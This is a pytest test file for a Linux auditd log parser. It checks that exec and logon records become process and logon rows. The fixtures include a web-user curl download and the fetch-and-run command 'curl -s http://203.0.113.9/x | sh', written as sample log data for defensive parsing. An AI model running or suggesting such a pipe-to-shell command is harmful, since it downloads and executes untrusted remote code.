"""The Linux audit log by its field dictionary and log format (audit-documentation): programs and logons, however told."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from typing import Any
from zoneinfo import ZoneInfo

import pytest

from kanaria.core.stream import ReadContext
from kanaria.core.zone import LocalTime
from kanaria.formats.host.auditd import AuditLog
from tests.reading_formats import Everything, read_all

NINE = datetime(2026, 1, 10, 9, 0, 0, 206_000, tzinfo=UTC)
STAMP = "1768035600.206:579393"


def syscall(stamp: str = STAMP, **changes: str) -> str:
    values = {
        "arch": "c000003e", "syscall": "59", "success": "yes", "exit": "0", "a0": "55d0", "a1": "55d1", "a2": "55d2", "a3": "8",
        "items": "2", "ppid": "700", "pid": "701", "auid": "1000", "uid": "33", "gid": "33", "euid": "33", "suid": "33",
        "tty": "(none)", "ses": "4294967295", "comm": '"curl"', "exe": '"/usr/bin/curl"', "key": '"exec"', **changes,
    }  # fmt: skip
    return f"type=SYSCALL msg=audit({stamp}): " + " ".join(f"{name}={value}" for name, value in values.items())


def execve(*words: str, stamp: str = STAMP) -> str:
    said = " ".join(f"a{place}={word}" for place, word in enumerate(words))
    return f"type=EXECVE msg=audit({stamp}): argc={len(words)} {said}"


def cwd(where: str, stamp: str = STAMP) -> str:
    return f"type=CWD msg=audit({stamp}): cwd={where}"


def proctitle(title: str, stamp: str = STAMP) -> str:
    return f"type=PROCTITLE msg=audit({stamp}): proctitle={title}"


def read(*lines: str, **context: Any) -> Everything:
    return read_all(AuditLog(), "".join(f"{line}\n" for line in lines).encode(), "audit.log", ReadContext(**context))


def rows(*lines: str, table: str = "process", **context: Any) -> list[dict[str, Any]]:
    found = read(*lines, **context)
    assert found.rejects == []
    return found.tables[table].to_pylist() if table in found.tables else []


def hexed(text: str | bytes) -> str:
    return (text.encode() if isinstance(text, str) else text).hex().upper()


WHOLE = [
    syscall(), execve('"curl"', '"-s"', '"http://203.0.113.9/x"'), cwd('"/var/www"'),
    f"type=PATH msg=audit({STAMP}): item=0 name=\"/usr/bin/curl\" inode=1 dev=08:01 mode=0100755 ouid=0 ogid=0 nametype=NORMAL",
    proctitle(hexed(b"curl\0-s\0http://203.0.113.9/x")),
]  # fmt: skip


def test_the_records_of_one_event_are_one_program() -> None:
    (row,) = rows(*WHOLE)
    meant = {
        "time": NINE, "process": "/usr/bin/curl", "command": "curl -s http://203.0.113.9/x", "directory": "/var/www",
        "pid": 701, "parent_pid": 700, "user": "uid 33", "parent_user": "uid 1000", "kind": "start", "platform": "linux",
    }  # fmt: skip
    assert {name: row[name] for name in meant} == meant


@pytest.mark.parametrize("order", [[0, 1, 2, 3, 4], [1, 0, 2, 3, 4], [3, 2, 1, 0, 4], [0, 1], [1], [1, 4], [0, 1, 2]])
def test_in_any_order_and_without_some_of_them(order: list[int]) -> None:
    (row,) = rows(*[WHOLE[at] for at in order])
    assert row["command"] == "curl -s http://203.0.113.9/x"
    assert row["directory"] == ("/var/www" if 2 in order else None)
    assert row["pid"] == (701 if 0 in order else None)


def test_events_that_interleave_are_put_together_by_their_number() -> None:
    """Processors write their events at once: the serial number tells which record is of which."""
    other = "1768035600.206:579394"
    found = rows(
        syscall(), syscall(other, pid="900", exe='"/bin/sh"'), execve('"curl"', '"x"'), execve('"sh"', '"-c"', stamp=other),
        proctitle('"sh"', other), proctitle('"curl"'),
    )  # fmt: skip
    assert sorted((row["pid"], row["command"]) for row in found) == [(701, "curl x"), (900, "sh -c")]


def test_machines_that_write_to_one_place_are_told_apart() -> None:
    found = rows(
        *(
            f"node={node} {line}"
            for line in (syscall(), execve('"curl"'), proctitle('"curl"'))
            for node in ("web1", "web2")
        )
    )
    assert sorted((row["host_name"], row["command"]) for row in found) == [("web1", "curl"), ("web2", "curl")]


ARGUMENTS: dict[str, tuple[list[str], str]] = {
    "in quotes": (['"sh"', '"-c"'], "sh -c"),
    "with blanks, in hexadecimal": (['"sh"', '"-c"', hexed("curl -s http://203.0.113.9/x | sh")], "sh -c curl -s http://203.0.113.9/x | sh"),
    "in other letters": (['"echo"', hexed("日本")], "echo 日本"),
    "no UTF-8": (['"echo"', hexed(b"\xff\xfe x")], "echo \\xff\\xfe x"),
    "an empty one": (['"sh"', '""', '"x"'], "sh  x"),
    "digits that are no hexadecimal": (['"sleep"', '"10"'], "sleep 10"),
    "more than ten": ([f'"w{place}"' for place in range(12)], " ".join(f"w{place}" for place in range(12))),
}  # fmt: skip


@pytest.mark.parametrize("name", ARGUMENTS)
def test_arguments(name: str) -> None:
    words, command = ARGUMENTS[name]
    (row,) = rows(syscall(), execve(*words), proctitle('"x"'))
    assert row["command"] == command


def test_a_long_argument_in_parts_and_records() -> None:
    """Beyond 8 kB an argument comes as a1[0], a1[1], … over several records, behind a1_len."""
    stamp = f"msg=audit({STAMP}): "
    found = rows(
        syscall(), f'type=EXECVE {stamp}argc=3 a0="sh" a1_len=12 a1[0]={hexed("echo a")}', f"type=EXECVE {stamp}a1[1]={hexed('b; ls')}",
        f'type=EXECVE {stamp}a2="end"', proctitle('"sh"'),
    )  # fmt: skip
    assert [row["command"] for row in found] == ["sh echo ab; ls end"]


def test_names_beside_the_numbers() -> None:
    """``log_format = ENRICHED``: names behind a group separator."""
    line = syscall() + '\x1dARCH=x86_64 SYSCALL=execve AUID="ann" UID="www-data" GID="www-data"'
    (row,) = rows(line, execve('"curl"'), proctitle('"curl"'))
    assert (row["user"], row["parent_user"]) == ("www-data", "ann")


@pytest.mark.parametrize("auid", ["4294967295", "unset", "-1"])
def test_who_never_logged_in_is_nobody(auid: str) -> None:
    (row,) = rows(syscall(auid=auid), execve('"cron"'), proctitle('"cron"'))
    assert row["parent_user"] is None


def test_a_call_that_starts_no_program_is_none() -> None:
    assert rows(syscall(syscall="257", exe='"/bin/cat"'), cwd('"/"'), proctitle('"cat"')) == []


# --- logons -----------------------------------------------------------------------------------------------------------------

LOGONS: dict[str, tuple[str, dict[str, Any]]] = {
    "sshd, failed": (
        f"type=USER_LOGIN msg=audit({STAMP}): pid=7 uid=0 auid=4294967295 ses=4294967295 msg='op=login acct=\"root\" "
        "exe=\"/usr/sbin/sshd\" hostname=? addr=198.51.100.7 terminal=ssh res=failed'",
        {"service": "ssh", "user": "root", "src_ip": "198.51.100.7", "success": False, "time": NINE},
    ),
    "sshd, a name with blanks": (
        f"type=USER_LOGIN msg=audit({STAMP}): pid=7 uid=0 msg='op=login acct={hexed('a b')} exe=\"/usr/sbin/sshd\" hostname=? "
        "addr=2001:db8::7 terminal=ssh res=failed'",
        {"user": "a b", "src_ip": "2001:db8::7", "success": False},
    ),
    "sshd, worked, by number": (
        f"type=USER_LOGIN msg=audit({STAMP}): pid=7 uid=0 auid=1000 ses=3 msg='op=login id=1000 exe=\"/usr/sbin/sshd\" "
        "hostname=198.51.100.7 addr=198.51.100.7 terminal=/dev/pts/0 res=success'",
        {"service": "ssh", "user": "uid 1000", "src_ip": "198.51.100.7", "success": True},
    ),
    "an old kernel's numbers": (
        f"type=USER_LOGIN msg=audit({STAMP}): user pid=7 uid=0 auid=500 msg='acct=\"ann\": exe=\"/bin/login\" (hostname=?, addr=?, "
        "terminal=tty1 res=success)'",
        {"service": "login", "user": "ann", "src_ip": None},
    ),
    "the kind as a number": (
        f"type=1112 msg=audit({STAMP}): pid=7 uid=0 msg='op=login acct=\"root\" exe=\"/usr/sbin/sshd\" addr=198.51.100.7 res=failed'",
        {"service": "ssh", "success": False},
    ),
}  # fmt: skip


@pytest.mark.parametrize("name", LOGONS)
def test_logons(name: str) -> None:
    line, meant = LOGONS[name]
    (row,) = rows(line, table="logon")
    assert {column: row[column] for column in meant} == meant


# --- carriers and clocks ------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("frame", "host"),
    [("", None), ("node=web1 ", "web1"), ("Jan 10 09:00:00 web1 audispd: ", "web1"), ("Jan 10 09:00:00 web1 kernel: ", "web1"),
     ("<13>1 2026-01-10T09:00:00Z web1 auditd 7 - - ", "web1")],
)  # fmt: skip
def test_who_carries_the_records(frame: str, host: str | None) -> None:
    (row,) = rows(*(frame + line for line in WHOLE))
    assert (row["host_name"], row["time"], row["command"]) == (host, NINE, "curl -s http://203.0.113.9/x")


@pytest.mark.parametrize(
    ("stamp", "meant"),
    [
        ("1768035600.206:1", NINE),
        ("0.000:1", datetime(1970, 1, 1, tzinfo=UTC)),
        ("4070908800.999:1", datetime(2099, 1, 1, 0, 0, 0, 999_000, tzinfo=UTC)),
        ("01/10/2026 09:00:00.206:1", NINE),  # ausearch -i
        ("99999999999.0:1", None),
    ],
)
def test_times(stamp: str, meant: datetime | None) -> None:
    (row,) = rows(execve('"x"', stamp=stamp))
    assert row["time"] == meant


def test_the_local_time_that_ausearch_prints_is_of_the_zone_that_is_told() -> None:
    (row,) = rows(execve("x", stamp="01/10/2026 09:00:00.206:1"), zone=LocalTime(ZoneInfo("Asia/Tokyo")))
    assert row["time"] == NINE - timedelta(hours=9)


def test_what_is_no_record_is_refused_and_its_neighbours_stay() -> None:
    found = read(*WHOLE[:2], "anything else", "----", "", *WHOLE[2:])
    assert ([reject.row for reject in found.rejects], found.rows) == ([3], 6)
    assert found.tables["process"].to_pylist()[0]["directory"] == "/var/www"


def test_cut_at_any_byte_no_other_program_is_told() -> None:
    text = "\n".join(WHOLE[:2])
    for size in range(len(WHOLE[0]) + 60, len(text)):
        for row in rows(*text[:size].split("\n")):
            assert "curl -s http://203.0.113.9/x".startswith((row["command"] or "").lstrip('"').rstrip()[:4])


def test_more_events_than_are_held_at_once_are_all_told() -> None:
    """Records of an event whose end never came are told when newer ones push them out, and at the end."""
    lines = [execve('"x"', f'"{number}"', stamp=f"1768035600.206:{number}") for number in range(600)]
    assert sorted(int(row["command"].split()[1]) for row in rows(*lines)) == list(range(600))
